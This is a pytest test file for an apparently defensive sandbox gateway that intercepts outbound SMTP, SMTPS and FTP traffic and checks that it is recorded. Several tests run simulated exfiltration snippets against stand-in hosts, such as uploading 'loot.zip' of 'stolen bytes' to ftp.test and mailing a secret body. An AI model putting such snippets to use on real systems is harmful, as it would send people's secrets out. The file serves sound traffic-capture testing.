from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from collector.records import RawRecord, TlsRecord
from sandbox.gateway.dialogues import dialogue_for

if TYPE_CHECKING:
    from .conftest import Pod


def test_a_mail_with_a_secret_is_taken(pod: Pod) -> None:
    pod.python(
        "import smtplib\ncontext = ssl.create_default_context(cafile=CA)\n"
        "with smtplib.SMTP('smtp.test', 587) as mail:\n"
        "  mail.starttls(context=context)\n  mail.login('me@a.test', 'pass')\n"
        "  mail.sendmail('me@a.test', ['you@b.test'], 'Subject: x\\n\\nsecret body\\n..\\nend')\n",
    )
    outer, inner = sorted(pod.records(RawRecord, count=2), key=lambda record: record.ts)
    assert outer.payload.endswith(b"STARTTLS\r\n")
    assert b"secret body" in inner.payload
    assert b"250 queued" in inner.answered
    assert pod.records(TlsRecord)[0].completed


def test_mail_over_tls_from_the_start(pod: Pod) -> None:
    pod.python(
        "import smtplib\n"
        "with smtplib.SMTP_SSL('smtp.test', 465, context=ssl.create_default_context(cafile=CA)) as mail:\n"
        "  mail.sendmail('me@a.test', ['you@b.test'], 'secret body')\n",
    )
    assert b"secret body" in pod.records(RawRecord)[0].payload


def test_an_upload_by_ftp_is_taken(pod: Pod) -> None:
    pod.python(
        "import ftplib, io\nftp = ftplib.FTP('ftp.test')\nftp.login('me', 'pass')\n"
        "print(ftp.storbinary('STOR loot.zip', io.BytesIO(b'stolen bytes')))\nftp.quit()\n",
    )
    payloads = [record.payload for record in pod.records(RawRecord, count=2)]
    assert b"stolen bytes" in payloads
    assert any(b"STOR loot.zip" in payload for payload in payloads)


@pytest.mark.parametrize(
    ("said", "heard"),
    [
        (b"AUTH LOGIN\r\nbWU=\r\ncHc=\r\n", b"334 VXNlcm5hbWU6\r\n334 UGFzc3dvcmQ6\r\n235 accepted\r\n"),
        (b"AUTH LOGIN bWU=\r\ncHc=\r\n", b"334 UGFzc3dvcmQ6\r\n235 accepted\r\n"),
        (b"AUTH PLAIN\r\nAG1l\r\n", b"334 \r\n235 accepted\r\n"),
        (b"auth\r\n", b"334 \r\n"),
        (b"\r\n\xff\r\nno newline", b"250 ok\r\n250 ok\r\n"),
        (b"x" * 100_000, b""),
    ],
)
def test_lines_of_mail(said: bytes, heard: bytes) -> None:
    mail = dialogue_for(25)
    assert mail.reply(said) == heard
    assert not mail.secured


def test_lines_in_pieces() -> None:
    mail = dialogue_for(25)
    assert [mail.reply(piece) for piece in (b"EH", b"LO x\r", b"\nSTARTTLS\r\n")][:2] == [b"", b""]
    assert mail.secured


def test_other_ports_only_listen() -> None:
    assert dialogue_for(4444).reply(b"EHLO\r\n") == b""
